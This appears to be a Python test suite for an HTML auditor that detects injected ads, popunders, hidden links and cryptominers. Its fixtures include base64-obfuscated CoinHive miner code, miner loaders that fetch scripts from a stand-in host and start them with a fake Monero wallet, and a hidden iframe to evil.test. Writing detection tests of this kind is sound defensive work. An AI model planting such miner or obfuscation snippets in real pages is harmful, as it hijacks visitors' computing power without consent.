     "<html><body><div class='links'><!-- <a href='/rates/'><b>Ads</b> on this site: "
     "our rates</a> --><a href='/about/'>About</a></div></body></html>", set()),
    # a label in bold alone on its line is still the box's label
    ("a unit put aside under a bold label",
     "<html><body><div id='sidebar'><!-- <div class='side-box'><strong>Реклама</strong></div>"
     "<div class='box240'><img src='/b/240x400.gif'></div> --><ul id='nav-main'><li>"
     "<a href='/'>home</a></li></ul></div></body></html>", {("ad-template-comment", L)}),
    # a label's run beside the next run, no text between: two lines (a label span over the
    # advertiser's), not one bold word in its prose
    ("a unit put aside, its label span beside the advertiser's",
     "<html><body><div id='sidebar'><!-- <div class='side-box'><span>Advertisement</span>"
     "<span>Acme spring sale</span></div> --><ul id='nav-main'><li>"
     "<a href='/'>home</a></li></ul></div></body></html>", {("ad-template-comment", L)}),
]


@pytest.mark.parametrize(("name", "html", "expected"), CASES, ids=[c[0] for c in CASES])
def test_injection(name: str, html: str, expected: set[tuple[str, Severity]],
                   audit_html: AuditHtml) -> None:
    report = audit_html(html, url="https://www.site.example/post")
    assert {(f.kind, f.severity) for f in report.findings} == expected, [
        f.message for f in report.findings]
    for f in report.findings:  # every finding is of a registered kind, in its range
        assert f.severity in FINDING_KINDS[f.kind].severities


def test_a_popads_tag_loading_pop_js_from_a_host_we_lack_is_popads(audit_html: AuditHtml) -> None:
    """rev46a: PopAds' classic tag pushes its settings and loads its pop.js itself; with the
    loader on a host the catalogue lacks its settings were read as none of its tag's, and
    the pop was only a generic one, no site ID."""
    tag = ("<script>var _pop = _pop || []; _pop.push(['siteId', 4827163]); _pop.push(['minBid',"
           " 0]); _pop.push(['popundersPerIP', 0]); (function() { var pa = document.createElement"
           "('script'); pa.async = true; pa.src = '//c1.popmirror.test/pop.js'; var s = document."
           "getElementsByTagName('script')[0]; s.parentNode.insertBefore(pa, s); })();</script>")
    report = audit_html(page(tag), url="https://www.site.example/post")
    assert [f.message for f in report.findings if f.kind == "popunder"] == [
        "PopAds is a popunder network (popads-site 4827163): a click opens an ad window "
        "behind the page"]


def test_miner_hidden_in_base64_is_found(audit_html: AuditHtml) -> None:
    import base64

    hidden = "var m = new CoinHive.Anonymous('Zq8Y2cVn1XbM3rT7uK5wE4sA6dF9gH0j'); m.start();"
    html = page(f"<script>eval(atob('{base64.b64encode(hidden.encode()).decode()}'))</script>")
    report = audit_html(html, url="https://www.site.example/post")
    kinds = {(f.kind, f.severity) for f in report.findings}
    assert kinds == {("cryptominer", H), ("obfuscated-script", H)}
    assert [(i.kind, i.value) for i in report.ids] == [
        ("coinhive-key", "Zq8Y2cVn1XbM3rT7uK5wE4sA6dF9gH0j")]


# a made-up Monero address: `4`, a network byte's second character, 93 more of base58
WALLET = "4B" + ("Xq7Ht2Lm9Rv3Nd8Kp5Wc6Jy1Zb4Fg" * 4)[:93]
# a miner of no catalogued network, as injected into a CMS's head and footer: its library
# from a host only a list's miner section names, then a loader that starts it with a wallet
MINER_TAG = "<script id='m-lib' src='https://cdn.minerhost.test/k/w.js?v=2'></script>"
MINER_START = ("<script>(function(d){var s=d.createElement('script');s.id='m-lib';s.onload="
               f"function(){{RunTheWork('{WALLET}', 'site', 40)}};s.src='https://cdn.minerhost."
               "test/k/w.js?v=2';d.body.appendChild(s)})(document)</script>")


@pytest.mark.parametrize(("name", "html", "cited"), [
    ("listed host and the call that starts it",
     page(MINER_START, head=MINER_TAG), ["cdn.minerhost.test", WALLET]),
    # the wallet alone is no miner: the same call is a donation widget's (a QR code, a
    # copy button); it needs a miner's host, a name that says it mines, or a hiding
    ("the call alone", page(MINER_START.replace("minerhost.test", "cdn.site.example")), []),
    ("a wallet handed on after the pool",
     page(f"<script>startMining('pool.site.example', \"{WALLET}\");</script>"), [WALLET]),
    ("an integrated address", page(f"<script>go('{WALLET}{'Ab3' * 3}Xy', 0.5)</script>",
                                   head=MINER_TAG),
     [WALLET + "Ab3" * 3 + "Xy", "cdn.minerhost.test"]),
    # held in a variable, an object or a template string, then started: the same miner
    ("a wallet held in a variable, then started", page(
        f"<script>var w = '{WALLET}'; RunTheWork(w, 'site', 40)</script>", head=MINER_TAG),
     ["cdn.minerhost.test", WALLET]),
    ("a wallet in an object",
     page(f"<script>miner.start({{wallet: \"{WALLET}\", threads: 4}})</script>",
          head=MINER_TAG), ["cdn.minerhost.test", WALLET]),
    ("a wallet in a template string",
     page(f"<script>RunTheWork(`{WALLET}`, 'site', 40)</script>", head=MINER_TAG),
     ["cdn.minerhost.test", WALLET]),
    ("the call behind base64", page("<script>eval(atob('" + __import__("base64").b64encode(
        f"RunTheWork('{WALLET}', 'site', 40)".encode()).decode() + "'))</script>"), [WALLET]),
    # look-alikes: the listed host alone starts nothing (the list keeps hosts that left
    # mining), a look-alike of it is no listed host, a wallet shown or assigned is no call
    ("listed host, no wallet", page("", head=MINER_TAG), []),
    ("look-alike host and the call", page(
        MINER_START.replace("cdn.minerhost.test", "notminerhost.test"),
        head=MINER_TAG.replace("cdn.minerhost.test", "cdn.minerhost.test.evil.example")),
     []),
    ("look-alike host and a call that says it mines", page(
        MINER_START.replace("cdn.minerhost.test", "notminerhost.test").replace(
            "RunTheWork", "miner.start"),
        head=MINER_TAG.replace("cdn.minerhost.test", "cdn.minerhost.test.evil.example")),
     [WALLET]),
    ("a word holding a mining name's letters", page(
        f"<script>examiner.open('{WALLET}', 1)</script>"), []),
    ("a donation address in prose and <pre>",
     page(f"<p>Tips welcome: {WALLET}</p><pre>start('{WALLET}', 50)</pre>", head=MINER_TAG), []),
    ("a wallet assigned, no miner's host",
     page(f"<script>var tips = {{xmr: '{WALLET}'}};</script>"), []),
    # a donation widget's, a payment button's, an explorer's calls: no miner on the page
    ("a copy button's handler",
     page(f"<button onclick=\"copyToClipboard('{WALLET}')\">Copy our XMR address</button>"),
     []),
    ("a donation QR code", page(f"<div id='qr'></div><script>new QRCode(document."
                                f"getElementById('qr'), '{WALLET}');</script>"), []),
    ("a payment button", page(f"<button onclick=\"pay('{WALLET}', 0.5)\">Pay</button>"), []),
    ("an explorer's address in a list of coins",
     page(f"<script>show(['1BoatSLRHtKNngkdXEeobR76b53LETtpyT', '{WALLET}', 'x']);</script>"),
     []),
    ("a 94-character run", page(f"<script>start('{WALLET[:-1]}', 50)</script>"), []),
    ("a run not in Monero's form", page(f"<script>start('4C{WALLET[2:]}', 50)</script>"), []),
])
def test_miner_started_for_a_wallet(name: str, html: str, cited: list[str],
                                    audit_html: AuditHtml) -> None:
    """A miner of no known network is started with the wallet it mines for; a host only a
    list's miner section names is a miner's on a page that starts one."""
    report = audit_html(html, url="https://www.site.example/post")
    miners = [f for f in report.findings if f.kind == "cryptominer"]
    assert all(f.severity is H for f in miners)
    assert [urlsplit(f.evidence).hostname if f.evidence.startswith("https:") else f.evidence
            for f in miners] == cited, [f.message for f in miners]
    # the wallet is the page's ID: a miner injected into many sites is one operator's
    assert [i.value for i in report.ids if i.kind == "monero-wallet"] == [
        c for c in cited if not c.startswith("cdn.")]


def test_a_catalogued_miners_wallet_is_its_networks(audit_html: AuditHtml) -> None:
    """deepMiner's constructor names its wallet: one finding and one ID, its network's."""
    report = audit_html(page(f"<script>var m = new deepMiner.Anonymous('{WALLET}');</script>"),
                        url="https://www.site.example/post")
    assert [(f.kind, f.evidence) for f in report.findings] == [("cryptominer", WALLET)]
    assert [(i.kind, i.value) for i in report.ids] == [("deepminer-wallet", WALLET)]


COINIMP_KEY = "5c" * 32


@pytest.mark.parametrize(("name", "body", "cited"), [
    # the library served from the site's own host, then CoinImp's constructor: no request
    # of the network, the call the only sign, and the finding cited line 0
    ("self-hosted library, then the call",
     "<p>Roll call</p>\n<script src='/assets/js/worker-lib.js'></script>\n<script>\n"
     f"var c = new Client.Anonymous('{COINIMP_KEY}', {{\n  throttle: 0.1, c: 'w'\n}});\n"
     "c.start();\n</script>", [4]),
    ("the call behind base64", "<p>Roll call</p>\n\n<script>eval(atob('" + __import__(
        "base64").b64encode(f"new Client.Anonymous('{COINIMP_KEY}', {{throttle: 0}})"
                            .encode()).decode() + "'))</script>", [4]),
    # the same words in prose and a <pre>: no miner
    ("the call in a <pre>", f"<pre>\nnew Client.Anonymous('{COINIMP_KEY}', {{throttle: 0}})"
     "\n</pre>", []),
], ids=lambda v: v if isinstance(v, str) and len(v) < 40 else "")
def test_a_self_hosted_miner_is_cited_at_its_call(name: str, body: str, cited: list[int],
                                                  audit_html: AuditHtml) -> None:
    """A catalogued miner the site serves from its own host shows only in the code that
    starts it: the finding cites that code's line, where its evidence is."""
    html = "<html><head><title>t</title></head><body>\n" + body + "\n</body></html>"
    report = audit_html(html, url="https://www.site.example/unga.php")
    assert [f.line for f in report.findings if f.kind == "cryptominer"] == cited


# JSEcoin's loader as its platform hands it out: /load/<user>/<site>/<subID>/<opt-in>/
JSECOIN = ('<script>!function(){{var e=document,t=e.createElement("script"),s=e.getElementsBy'
           'TagName("script")[0];t.async=t.defer=!0,t.src="https://{host}/load/{user}/'
           'quarry.example/spring-sale/0/",s.parentNode.insertBefore(t,s)}}();</script>')


@pytest.mark.parametrize(("host", "user", "ids"), [
    ("load.jsecoin.com", "58213", [("jsecoin-user", "58213")]),
    ("load.jsecoin.com", "0", []),  # a blocker's probe, no one's account
    ("load.notjsecoin.com", "58213", []),
    ("load.jsecoin.com.evil.example", "58213", []),
])
def test_jsecoins_loader_names_the_user_it_pays(host: str, user: str,
                                                ids: list[tuple[str, str]],
                                                audit_html: AuditHtml) -> None:
    """The user is the account the mining pays; the site and the subID the publisher's own
    words, no account."""
    report = audit_html(page(JSECOIN.format(host=host, user=user)),
                        url="https://quarry.example/signup")
    assert [(i.kind, i.value) for i in report.ids if i.kind.startswith("jsecoin")] == ids
    assert "spring-sale" not in {i.value for i in report.ids}
    # the finding names the account as what it is (it said "site key" of every ID)
    miners = [f.message for f in report.findings if f.kind == "cryptominer"]
    if ids:
        assert miners and all(f"jsecoin-user {user}" in m and "site key" not in m
                              for m in miners), miners


@pytest.mark.parametrize(("body", "miner"), [
    ("", False),  # the list keeps hosts that left mining: its own default
    (MINER_START, True),  # on a page that starts a miner, the miner's
    (f"<script>new QRCode(document.getElementById('qr'), '{WALLET}');</script>",
     True),  # a wallet with the host: the two together are a miner
])
def test_a_host_only_a_miner_section_names_is_a_miners_where_one_starts(
        body: str, miner: bool, audit_html: AuditHtml) -> None:
    """A host EasyPrivacy files among miners that a page loads with no wallet in sight is
    no miner's there (the list keeps hosts that now serve something else): the page's
    hosts, trackers and a policy denying cryptomining read it as the list's tracker."""
    report = audit_html(page(body, head=MINER_TAG), url="https://www.site.example/post")
    categories = {r.category for r in report.resources if r.host == "cdn.minerhost.test"}
    assert (categories == {Category.CRYPTOMINING}) is miner, categories
    assert bool(categories), categories


def test_wordpress_post_body_comments_count(audit_html: AuditHtml) -> None:
    report = audit_html("<p>text</p><!-- 广告位 --><p>more</p>", in_post_body=True)
    assert [f.kind for f in report.findings] == ["ad-template-comment"]


def test_a_long_ad_comment_is_quoted_as_cut(audit_html: AuditHtml) -> None:
    """A comment longer than the message quotes ends in `…`: two GPT comments that differ
    past the cut read as one comment cut short otherwise (`Ad ID div-gp -->`); a short
    one is quoted whole."""
    comments = "".join(f"<!-- Post ID , Account 10519169, Label Harbour/Ferry_Articles, Ad ID "
                       f"div-gpt-ad-1378388834355-{n}, Adpos top -->" for n in (1, 2))
    report = audit_html(f"<p>text</p>{comments}<!-- 广告位 --><p>more</p>", in_post_body=True)
    messages = [f.message for f in report.findings if f.kind == "ad-template-comment"]
    assert len(messages) == 3, messages
    assert all(m.endswith("… -->") and len(m.split("<!-- ")[1]) == 85 for m in messages[:2])
    assert messages[2] == "ad template comment: <!-- 广告位 -->"


def test_finding_ids_survive_a_line_shift(audit_html: AuditHtml) -> None:
    html = page('<iframe src="https://evil.test/x" width="0" height="0"></iframe>')
    first = audit_html(html).findings
    shifted = audit_html("\n\n\n" + html).findings
    assert [f.id for f in first] == [f.id for f in shifted]
    assert [f.line for f in first] != [f.line for f in shifted]


@given(st.lists(st.sampled_from(
    ["pop", "Pop", "POP", "popMagic", "popunder", "pop_under", "PopUnders", "'popup_fallback'",
     '"popup_fallback"', "x", "_", " ", "'", "İ", "ſ", "magic", "under", "é"]), max_size=8))
def test_pop_words_are_found_as_the_regex_finds_them(parts: list[str]) -> None:
    """`_pop_words` tries the regex only where "pop" occurs; it must find what it finds."""
    from auditor.heuristics.popunders import _POP_WORDS, _pop_words

    text = "".join(parts)
    expected, got = _POP_WORDS.search(text), _pop_words(text)
    assert (got and (got.span(), got.group(0))) == (expected and
                                                     (expected.span(), expected.group(0)))


_STYLE_PIECES = ["display", "DISPLAY", ":", " ", ";", "none", "NONE", "visibility", "hidden",
                 "hıdden", "opacity", "0", "0.0", "left", "-", "9999", "-999px", "px", "em",
                 "font-size", "font-ſize", "height", "width", "1px", "overflow", "!", "colour",
                 "font-size:0", "FONT-ſIZE:0", "display:none", "opacity:0", "left:-9999px",
                 "height:0;overflow:hidden", "visibility:hıdden"]


@settings(max_examples=500)
@given(st.lists(st.sampled_from(_STYLE_PIECES), max_size=12).map("".join))
def test_a_style_the_link_farm_scan_passes_over_hides_nothing(style: str) -> None:
    """`hidden_links` makes no element of a style `may_hide` rejects: `inline_hiding` must
    find none of them hidden (case ignored as its patterns ignore it: `hıdden` is
    `hidden`)."""
    from lxml import etree

    from auditor.dom.hiding import inline_hiding, may_hide

    el = etree.Element("div", style=style)
    (value,) = el.xpath("@style")
    if inline_hiding(el) is not None:
        assert may_hide(value)


_EXO = '<ins class="adsbyexoclick" data-zoneid="{}"></ins>'
_EXO_LOADER = '<script async src="https://a.magsrv.com/ad-provider.js"></script>'
_STORY = "<p>" + "Story text that goes on for a while. " * 30 + "</p>"
# a scraper plugin's credit under the copied article: the page republishes another's
_SOURCE_LINK = '<p><a href="https://www.coastalherald.test/news/ferry-returns">Source link</a></p>'
_PREPENDED = ('<script>new Image().src = "//ad.doubleclick.net/activity;r=" + Math.random();'
              "</script>\n<html><head><title>t</title></head><body><article>")

# (where the units were put, the page, a WordPress post body?, the finding points at)
AD_IN_BODY_PAGES = [
    ("post body", f"<p>Intro.</p>\n{_EXO_LOADER}\n{_EXO.format(1)}\n<p>More.</p>\n{_EXO.format(2)}",
     True, "slot"),
    ("copied article body with its loader",
     f"<html><head><title>t</title></head><body>\n<article>{_STORY}\n{_EXO_LOADER}\n"
     f"{_EXO.format(1)}\n{_STORY}\n{_EXO.format(2)}\n{_SOURCE_LINK}</article>\n</body></html>",
     False, "slot"),
    ("after </html>", f"<html><head><title>t</title></head><body>\n<article>{_STORY}</article>\n"
     f"</body></html>\n{_EXO_LOADER}\n{_EXO.format(1)}\n{_EXO.format(2)}", False, "slot"),
    ("before <html>", f"{_PREPENDED}{_STORY}</article></body></html>", False, "resource"),
]


@pytest.mark.parametrize(("where", "html", "in_post_body", "points_at"), AD_IN_BODY_PAGES,
                         ids=[c[0] for c in AD_IN_BODY_PAGES])
def test_an_ad_in_body_finding_points_at_its_first_slot_or_request(
        where: str, html: str, in_post_body: bool, points_at: str, audit_html: AuditHtml) -> None:
    """A reader finds the injected units from the finding: the line and xpath of the
    group's first slot (or, before `<html>`, its first request), as the walk located it."""
    report = audit_html(html, in_post_body=in_post_body)
    found = [f for f in report.findings if f.kind == "ad-in-body"]
    assert found, [f.message for f in report.findings]
    for f in found:
        if points_at == "slot":
            located = [(s.line, s.xpath) for s in report.slots if s.network == f.evidence]
        else:
            located = [(r.line, r.xpath) for r in report.resources
                       if (r.network or r.host) == f.evidence]
        assert located, f.evidence
        assert (f.line, f.xpath) == min(located, key=lambda at: at[0])
        assert f.xpath


# A free host's block written before every page it serves: an overlay ad with its network's
# loader, the host's visitor counter and an analytics tag of its own, all in one script.
_HOST_BLOCK = """
<script type="text/javascript">
  document.write('<div id="hostads" style="position:fixed;top:0;right:0"></div>');
  document.write('<scr' + 'ipt src="https://a.magsrv.com/ad-provider.js"></scr' + 'ipt>');
  new Image().src = "//counter.yadro.ru/hit;hostnet?r" + escape(document.referrer);
  (function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;a=s.createElement(o);a.async=1;
  a.src=g;s.getElementsByTagName(o)[0].parentNode.appendChild(a)})(window,document,
  'script','https://www.google-analytics.com/analytics.js','hostTracker');
</script>
<html><head><title>My garden</title></head><body><article>"""


def test_a_block_written_before_html_is_one_finding_naming_every_party(
        audit_html: AuditHtml) -> None:
    """One server wrote it at once: a reviewer removes the block, not each vendor. It was
    one high finding per vendor, each pointing at the same script (a free host's page had
    four), and a tracker alone read as an ad injection of its own."""
    report = audit_html(f"{_HOST_BLOCK}{_STORY}</article></body></html>",
                        url="https://garden.host.example/")
    found = [f for f in report.findings if f.kind == "ad-in-body"]
    assert [(f.severity, f.line, f.xpath) for f in found] == [(H, 2, "/html/head/script")]
    message = found[0].message
    assert message.endswith("code injected before the page's <html> start tag (3 requests)")
    assert all(party in message and party in found[0].evidence
               for party in ("ExoClick", "LiveInternet", "Google Analytics"))


def test_one_party_before_html_keeps_its_finding_id(audit_html: AuditHtml) -> None:
    """A baseline accepting a host's one tag before `<html>` still matches it."""
    from auditor.heuristics.interface import fingerprint

    report = audit_html(f"{_PREPENDED}{_STORY}</article></body></html>")
    (found,) = [f for f in report.findings if f.kind == "ad-in-body"]
    assert found.id == fingerprint("ad-in-body", found.evidence, "before <html>")


def test_an_ad_in_body_id_does_not_move_with_its_slot(audit_html: AuditHtml) -> None:
    """The xpath is where the finding points, not what it is: the id ignores it."""
    units = f"{_EXO_LOADER}\n{_EXO.format(1)}"
    plain = audit_html(f"<p>Intro.</p>\n{units}", in_post_body=True).findings
    moved = audit_html(f"<p>Intro.</p>\n<div><div>\n{units}</div></div>",
                       in_post_body=True).findings
    pairs = [(a, b) for a in plain for b in moved if a.kind == b.kind == "ad-in-body"]
    assert len(pairs) == 1
    (a, b), = pairs
    assert a.xpath != b.xpath and a.id == b.id


def test_a_custom_element_attribute_does_not_hide_pasted_loader_copies(
        audit_html: AuditHtml) -> None:
    """Only AMP's own extension scripts register an element each: an injected loader's
    copies given `custom-element` attributes of their own are still copies."""
    unit = ('<script async custom-element="amp-x{0}" src="https://a.magsrv.com/ad-provider.js">'
            '</script><ins class="adsbyexoclick" data-zoneid="91002{0}"></ins>')
    body = "<p>Story.</p>" + "".join(unit.format(i) for i in range(3))
    report = audit_html(body, url="https://blog.example/?p=1", in_post_body=True)
    assert [(f.severity, f.message.split(": ")[0]) for f in report.findings
            if f.kind == "duplicate-loader"] == [
        (M, "ad loader https://a.magsrv.com/ad-provider.js is included 3 times "
                          "(2 redundant copies)")]


def test_a_hidden_link_is_judged_by_the_owner_its_url_names(audit_html: AuditHtml) -> None:
    """The link-farm scan took a link's category from the network and then its host's
    entity, where the hidden-frame scan and the rest of the audit take `owners_of`'s
    owner: a URL an entity's pattern names (Blogger's navbar script, content, on
    AdSense's host) was the host's advertising to one and content to the other."""
    navbar = "https://pagead2.googlesyndication.com/pagead/js/google_top_exp.js"
    links = "".join(f'<a href="{navbar}?v={i}">{i}</a>' for i in range(4))
    report = audit_html(page(f'<div style="position:absolute;left:-9999px">{links}</div>'),
                        url="https://www.site.example/post")
    assert [f.kind for f in report.findings] == []
    links = "".join(f'<a href="https://spam{i}.test/">{i}</a>' for i in range(4))
    report = audit_html(page(f'<div style="position:absolute;left:-9999px">{links}</div>'),
                        url="https://www.site.example/post")
    assert [f.kind for f in report.findings] == ["hidden-links"]


# A PHP front controller saved as its source: its first block stores the ad tags the
# template prints further down (`<?php echo $sidebar; ?>`) in strings, then the page.
_CONTROLLER = """<?php
session_start();
include("config.php");
$sidebar = '';
if ($_SERVER['HTTP_HOST'] != "localhost")
{
$sidebar .= '<br/>Advertisement<br/><script type="text/javascript"><!--
google_ad_client = "ca-pub-5550001112223334";
google_ad_slot = "4445556667";
google_ad_width = 300; google_ad_height = 250;
//-->
</script>
<script type="text/javascript"
src="https://pagead2.googlesyndication.com/pagead/show_ads.js">
</script>';
$footer_tags = '<script src="https://sb.scorecardresearch.com/beacon.js"></script>';
}
$title = ucfirst($_GET['movie']);
?>
{between}<!DOCTYPE html>
<html><head><title><?= $title ?></title></head>
<body><div class="right"><?php echo $sidebar; ?></div><p>Show times.</p>
<?php echo $footer_tags; ?></body></html>"""


@pytest.mark.parametrize(("between", "expected"), [
    ("", []),  # the strings are the template's source: printed where it echoes them
    ("<?php if ($cid > 1) $cache = '<script src=\"https://a.magsrv.com/ad-provider.js\">"
     "</script>'; ?>\n", []),  # a later block's strings too
    # a script written between the code and the page, or by a block that echoes it, is
    # output before `<html>`
    ('<script src="https://a.magsrv.com/ad-provider.js"></script>\n', ["ExoClick"]),
    ('<?php $n = 1; ?><script src="https://a.magsrv.com/ad-provider.js"></script>\n',
     ["ExoClick"]),
    ("<?php if ($n > 0) echo '<script src=\"https://a.magsrv.com/ad-provider.js\"></script>';"
     " ?>\n", ["ExoClick"]),
])
def test_markup_in_server_code_before_html_is_not_written_there(
        audit_html: AuditHtml, between: str, expected: list[str]) -> None:
    """Markup in a server-side code block before `<html>` is the template's source, not
    output before the page: a controller's block of ad strings read as ads injected before
    `<html>`, high. What its code echoes, and what follows its `?>`, is written there."""
    report = audit_html(_CONTROLLER.replace("{between}", between),
                        url="https://cinema.example/")
    before = [f for f in report.findings if "before the page's" in f.message
              or "before <html>" in str(f.id)]
    assert [f.evidence for f in before if f.severity in (H, Severity.MEDIUM)] == expected, [
        f.message for f in report.findings]
    assert {"Google AdSense", "Comscore"} <= {n for n in report.networks} | {
        r.network for r in report.resources}
    assert any(i.value.endswith("5550001112223334") for i in report.ids)


# The same template with its code after the page: the page printed first, then the code
# that stores the footer's tags (a PHP file saved with its source, a Classic ASP page).
_FOOTER = """<!DOCTYPE html>
<html><head><title>Show times</title></head>
<body><p>Show times for this week, every evening at eight and at ten.</p>
<script src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js"></script>
</body></html>{after}"""
_EXO_UNIT = ('<script async src="https://a.magsrv.com/ad-provider.js"></script>'
             '<ins class="eas6a97888e2" data-zoneid="5876674"></ins>')


@pytest.mark.parametrize(("after", "expected"), [
    ("\n<?php\n$footer = '" + _EXO_UNIT + "';\n$n = 2;\n?>\n", []),
    ("<?php $footer = '" + _EXO_UNIT + "'; ?>", []),  # on the `</html>` line
    ("\n<%\nDim footer\nfooter = \"" + _EXO_UNIT.replace('"', "'") + "\"\n%>\n", []),
    ("\n<?php if ($n) { $cache = '" + _EXO_UNIT + "'; } ?>\n<?php\n$n = 1;\n?>\n", []),
    # what follows a block's end, or what a block writes, is output after the page
    ("\n<?php $n = 1; ?>\n" + _EXO_UNIT + "\n", ["ExoClick"]),
    ("\n<% Response.Write(\"" + _EXO_UNIT.replace('"', "'") + "\") %>\n", ["ExoClick"]),
    ("\n" + _EXO_UNIT + "\n", ["ExoClick"]),
])
def test_markup_in_server_code_after_html_is_not_written_there(
        audit_html: AuditHtml, after: str, expected: list[str]) -> None:
    """Markup in a server-side code block after the page's `</html>` that prints nothing is
    the template's source, as it is before `<html>`: it was one ExoClick slot injected after
    the page, high. What a block writes, and what follows its end, is output there."""
    report = audit_html(_FOOTER.replace("{after}", after), url="https://cinema.example/")
    outside = [f for f in report.findings if f.severity in (H, Severity.MEDIUM)
               and ("</html>" in f.message or "after the page" in f.message)]
    assert [f.evidence for f in outside] == expected, [f.message for f in report.findings]
    assert "ExoClick" in {s.network for s in report.slots}  # its units are counted either way
